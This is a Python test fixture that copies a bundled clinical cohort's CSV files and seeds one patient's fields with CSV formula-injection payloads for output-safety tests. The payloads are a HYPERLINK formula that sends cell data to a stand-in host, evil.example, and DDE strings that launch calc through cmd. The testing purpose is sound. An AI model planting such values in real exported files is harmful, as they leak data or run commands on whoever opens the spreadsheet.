"""A copy of the bundled cohort whose text fields carry spreadsheet formulas (shared by the output-safety tests)."""

from __future__ import annotations

import csv
from pathlib import Path

import ipafstudy

BUNDLED = Path(ipafstudy.__file__).parent / "example_data"
EVIL_ID = '=HYPERLINK("http://evil.example/?q="&A1,"open")'
EVIL_SITE = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_DETAIL = "+cmd|' /C calc'!A0"
TARGET = "A-0007"  # analysed, with HRCT reads and an adverse event in the bundled cohort


def hostile_copy(dest: Path, *, source: Path = BUNDLED, target: str = TARGET) -> Path:
    """CSVs of ``source`` with patient ``target`` renamed to EVIL_ID, its site EVIL_SITE, every event_detail
    EVIL_DETAIL."""
    dest.mkdir(parents=True, exist_ok=True)
    for src in sorted(source.glob("*.csv")):
        with src.open(newline="", encoding="utf-8") as handle:
            rows = list(csv.DictReader(handle))
        for row in rows:
            if row.get("patient_id") == target:
                row["patient_id"] = EVIL_ID
                if "site" in row:
                    row["site"] = EVIL_SITE
            if row.get("event_detail"):
                row["event_detail"] = EVIL_DETAIL
        with (dest / src.name).open("w", newline="", encoding="utf-8") as handle:
            writer = csv.DictWriter(handle, fieldnames=list(rows[0].keys()), lineterminator="\n")
            writer.writeheader()
            writer.writerows(rows)
    return dest
